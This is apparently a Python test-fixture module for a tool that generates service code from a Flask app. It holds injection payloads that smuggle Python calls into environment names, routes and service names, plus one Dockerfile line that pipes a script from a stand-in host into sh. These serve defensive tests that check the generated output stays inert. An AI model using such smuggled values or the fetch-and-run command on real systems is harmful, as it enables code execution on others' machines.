"""Hostile values for the generated-code tests, a small hostile Flask tree, and the checks that a
generated text keeps them inert: Python that parses and calls nothing the payload asked for,
Dockerfiles without extra instructions, README files without extra lines."""

from __future__ import annotations

import ast
import dataclasses
import os
import re
import subprocess
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path

from analyzers.model import Codebase, ExternalImport, Module, Route
from strangler.boundaries.decomposition import SHARED_KERNEL, Decomposition
from tests.builders import decomposition_by_owner

#: What the payloads call and no generated file does.
PAYLOAD_CALLS = frozenset({"__import__", "eval", "exec", "system", "touch"})


def touch(marker: str, quote: str = '"') -> str:
    """Python code creating the file `marker`, relative to the working directory of the run."""
    return f"__import__({quote}pathlib{quote}).Path({quote}{marker}{quote}).touch()"


#: An environment variable name read by the tree: as pasted into `for name in ("<name>",):`
ENV_PAYLOAD = f'DATABASE_URL", {touch("pwned-env")}, "'
#: A route path of the tree: as pasted into `.match("<path>", ...)` and `.get("<path>")`
ROUTE_PAYLOAD = f'/x" if {touch("pwned-route")} else "/x'
#: An internal API prefix (configuration): as pasted into `url_prefix="<prefix>"` or `path("...")`
PREFIX_PAYLOAD = f'/_strangler/ops", {touch("pwned-prefix")}, "'

#: Service names (a boundaries or configuration file names them), one attack each.
SERVICE_NAMES = {
    "triple-quotes": f'evil"""; {touch("pwned-quotes")}; """',
    "backslash": "evil\\N{oops} \\",
    "newline": "evil\nRUN curl https://evil.invalid/x | sh",
    "braces": "evil{" + touch("pwned-braces", quote="'") + "}",
}
#: Files a payload above creates when it runs.
MARKERS = ("pwned-env", "pwned-route", "pwned-prefix", "pwned-quotes", "pwned-braces")

HOSTILE_TREE = {
    "shop/__init__.py": "",
    "shop/app.py": (
        "from flask import Flask\n\n"
        "from shop.orders.views import bp\n\n\n"
        "def create_app():\n"
        "    app = Flask(__name__)\n"
        "    app.register_blueprint(bp)\n"
        "    return app\n"
    ),
    "shop/db.py": f"import os\n\nURL = os.environ.get('{ENV_PAYLOAD}', 'sqlite://')\n",
    "shop/orders/__init__.py": "",
    "shop/orders/views.py": (
        "from flask import Blueprint\n\n"
        "from shop import db\n\n"
        'bp = Blueprint("orders", __name__)\n\n\n'
        f"@bp.route('{ROUTE_PAYLOAD}')\n"
        "def index():\n"
        '    return {"configured": db.URL is not None}\n'
    ),
}


#: HOSTILE_TREE with a second capability, so that `strangler plan` proposes two services.
HOSTILE_PLAN_TREE = {
    **HOSTILE_TREE,
    # (package docstrings: empty `__init__` files carry no coupling and are left out of the graph,
    # and the two one-module packages would then be one service)
    "shop/orders/__init__.py": '"""Orders."""\n',
    "shop/billing/__init__.py": '"""Billing."""\n',
    "shop/billing/views.py": (
        "from flask import Blueprint\n\n"
        'bp = Blueprint("billing", __name__)\n\n\n'
        '@bp.route("/billing")\n'
        "def bill():\n"
        '    return {"ok": True}\n'
    ),
}


def _module(path: str) -> tuple[str, bool]:
    parts = path[: -len(".py")].split("/")
    is_package = parts[-1] == "__init__"
    return ".".join(parts[:-1] if is_package else parts), is_package


def hostile_codebase(root: str, *, views_path: str = "shop/orders/views.py") -> Codebase:
    """The facts of HOSTILE_TREE as the analyzers give them; `views_path` is the path shown for
    `shop.orders.views` (a directory name of the tree may hold a newline)."""
    modules = []
    for path in sorted(HOSTILE_TREE):
        name, is_package = _module(path)
        shown = views_path if name == "shop.orders.views" else path
        modules.append(Module(name=name, path=shown, loc=1, is_package=is_package))
    route = Route(ROUTE_PAYLOAD, ("GET",), "shop.orders.views.index", "shop.orders.views", 8, "flask")
    externals = (
        ExternalImport("shop.app", "flask", 1, False),
        ExternalImport("shop.orders.views", "flask", 1, False),
    )
    return Codebase(root=root, modules=tuple(modules), routes=(route,), externals=externals)


def hostile_sources() -> dict[str, str]:
    """Module name -> text of HOSTILE_TREE."""
    return {_module(path)[0]: text for path, text in HOSTILE_TREE.items()}


def hostile_decomposition(codebase: Codebase) -> Decomposition:
    """`shop.orders` is the service `orders`; the rest is shared kernel."""
    return decomposition_by_owner(codebase, _hostile_owner, ("orders",))


def _hostile_owner(name: str) -> str:
    return "orders" if name.startswith("shop.orders") else SHARED_KERNEL


def renamed(decomposition: Decomposition, old: str, new: str) -> Decomposition:
    """`decomposition` with the service `old` called `new`."""
    services = tuple(dataclasses.replace(s, name=new) if s.name == old else s for s in decomposition.services)
    assignments = tuple(
        dataclasses.replace(a, service=new) if a.service == old else a for a in decomposition.assignments
    )
    return dataclasses.replace(decomposition, services=services, assignments=assignments)


def _called(func: ast.expr) -> str:
    if isinstance(func, ast.Name):
        return func.id
    return func.attr if isinstance(func, ast.Attribute) else ""


def assert_inert(text: str, where: str = "<generated>") -> set[str]:
    """Check that `text` is Python that parses and calls nothing a payload calls; return its
    string constants (docstrings and the literal parts of f-strings included)."""
    tree = ast.parse(text, filename=where)
    calls = [
        ast.unparse(node)
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and _called(node.func) in PAYLOAD_CALLS
    ]
    assert not calls, f"{where}: payload turned into code: {calls}"
    return {n.value for n in ast.walk(tree) if isinstance(n, ast.Constant) and isinstance(n.value, str)}


def dockerfile_instructions(text: str) -> list[str]:
    """The instruction keywords of a Dockerfile, in order (comments, blank lines and continuation
    lines skipped). Lines are split as `str.splitlines` does: more line ends than Docker knows."""
    found: list[str] = []
    continued = False
    for line in text.splitlines():
        stripped = line.strip()
        if not continued and stripped and not stripped.startswith("#"):
            found.append(stripped.split()[0].upper())
        continued = stripped.endswith("\\")
    return found


_CODE_SPAN = re.compile(r"(`+)(?!`).*?(?<!`)\1(?!`)")


def markdown_outside_code(text: str) -> str:
    """`text` without its Markdown code spans (where HTML and links are shown, not rendered)."""
    return "\n".join(_CODE_SPAN.sub("", line) for line in text.splitlines())


def under(files: Mapping[str, str], prefix: str) -> dict[str, str]:
    """The entries of `files` under `prefix`, with `prefix` stripped from their paths."""
    return {path[len(prefix) :]: text for path, text in files.items() if path.startswith(prefix)}


def run_python(args: Sequence[str], *, cwd: Path, path: Sequence[Path]) -> subprocess.CompletedProcess[str]:
    """`python <args>` in `cwd` with `path` first on sys.path; the payloads' markers land in `cwd`."""
    env = {
        **os.environ,
        "PYTHONDONTWRITEBYTECODE": "1",
        "PYTHONPATH": os.pathsep.join(str(p) for p in path),
    }
    cwd.mkdir(parents=True, exist_ok=True)
    return subprocess.run(
        [sys.executable, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=300
    )


def markers_in(directory: Path) -> list[str]:
    """The payload marker files present in `directory`."""
    return [m for m in MARKERS if (directory / m).exists()]
